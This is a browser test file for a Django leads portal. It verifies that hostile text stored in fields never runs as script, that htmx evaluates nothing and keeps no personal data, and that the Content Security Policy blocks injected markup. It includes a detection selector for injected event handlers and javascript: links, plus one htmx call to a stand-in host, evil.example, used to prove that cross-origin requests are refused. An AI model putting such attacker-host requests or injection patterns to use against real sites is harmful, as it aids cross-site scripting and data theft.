"""The worst of texts in every column, looked at in a browser by everybody who can see it."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from django.conf import settings as portal_settings
from playwright.sync_api import Dialog

from leads.models import Lead, Share
from partners.models import User
from portal.tests import hostile
from portal.tests.browser.test_every_page import everybodys_pages
from portal.tests.browser.window import Window

pytestmark = [pytest.mark.browser, pytest.mark.proof, pytest.mark.django_db(transaction=True)]
OpenWindow = Callable[..., Window]
ADMIN_PAGES = ("leads/lead", "leads/share", "partners/partner", "partners/user")


def everywhere() -> dict[str, list[str]]:
    """Return the addresses to look at by who looks, worked out before the world is spoilt."""
    paths = {who: [shown.path for shown in pages] for who, pages in everybodys_pages().items()}
    paths["dana@portal.example"] += [f"/leads/{lead.pk}/" for lead in Lead.objects.all()[:6]]
    paths["amira@acme.example"] += [
        f"/portal/leads/{share.pk}/"
        for share in Share.objects.filter(partner__name__startswith="Acme")[:6]
    ]
    for page in ADMIN_PAGES:
        paths["admin@portal.example"] += [f"/admin/{page}/"]
    for model, page in ((Lead, "leads/lead"), (User, "partners/user")):
        first = model._default_manager.all()[:1].get()
        paths["admin@portal.example"].append(f"/admin/{page}/{first.pk}/change/")
    return paths


def test_nothing_that_was_typed_runs(window: OpenWindow) -> None:
    paths = everywhere()
    people = {who: window(who) for who in paths}
    filled = hostile.fill()
    assert {"Lead.name", "Lead.notes", "Partner.name", "Share.notes", "User.name"} <= filled

    found, told = [], 0
    for who, person in people.items():
        dialogs = dialogs_of(person)
        for path in paths[who]:
            person.open(path)
            person.page.wait_for_load_state("load")
            told += hostile.MARK in person.page.content()
            found += [f"{who} {path}: {fault}" for fault in faults(person)]
        found += [f"{who}: a dialog said {text}" for text in dialogs]

    assert not found, "\n".join(found)
    assert told > len(people)  # the texts did stand on the pages


def dialogs_of(person: Window) -> list[str]:
    """Return where the texts of dialogs that open in the window will stand."""
    kept: list[str] = []

    def note(dialog: Dialog) -> None:
        kept.append(dialog.message)
        dialog.dismiss()

    person.page.on("dialog", note)
    return kept


def faults(person: Window) -> list[str]:
    """Return what ran, what became an element, and what the policy had to stop."""
    mark = hostile.MARK
    said = [
        *person.page.evaluate("window.violations"),
        *(line for line in person.complaints if "status of" not in line),
    ]
    person.complaints.clear()
    if person.page.evaluate(f"'{mark}' in window && window.{mark} === 1"):
        said.append("it ran")
    if person.page.locator(f"#{mark}, [onerror], [onload], [href^='javascript:']").count():
        said.append("it became an element")
    return said


def test_htmx_evaluates_nothing_and_keeps_no_page(window: OpenWindow) -> None:
    """Personal pages stand in no storage of the browser, and htmx asks nobody else."""
    dana = window("dana@portal.example")
    lead = Lead.objects.get(email="layla.f@example.com")
    dana.open(f"/leads/{lead.pk}/")
    dana.open("/leads/")
    page = dana.page

    config = page.evaluate("htmx.config")
    assert (config["allowEval"], config["selfRequestsOnly"]) == (False, True)
    assert (config["historyCacheSize"], config["includeIndicatorStyles"]) == (0, False)
    kept = page.evaluate("JSON.stringify([{...localStorage}, {...sessionStorage}])")
    assert lead.name not in kept
    assert lead.phone not in kept
    assert page.evaluate("caches.keys().then((names) => names.length)") == 0
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.evaluate("htmx.ajax('GET', 'https://evil.example/', 'body').catch(() => {})")
    page.wait_for_timeout(300)
    assert not [url for url in asked if "evil" in url]


def test_a_markup_that_got_in_could_do_nothing(window: OpenWindow) -> None:
    """Were a text to become markup after all, the policy would stop what is in it."""
    dana = window("dana@portal.example")
    dana.open("/leads/")
    for payload in hostile.PAYLOADS:
        dana.page.evaluate("(html) => document.querySelector('main').innerHTML = html", payload)
    dana.page.wait_for_timeout(300)

    assert not dana.page.evaluate(f"window.{hostile.MARK} === 1")
    assert dana.page.evaluate("window.violations.length") > 0
    assert portal_settings.CONTENT_SECURITY_POLICY["DIRECTIVES"]["script-src"] == ["'self'"]
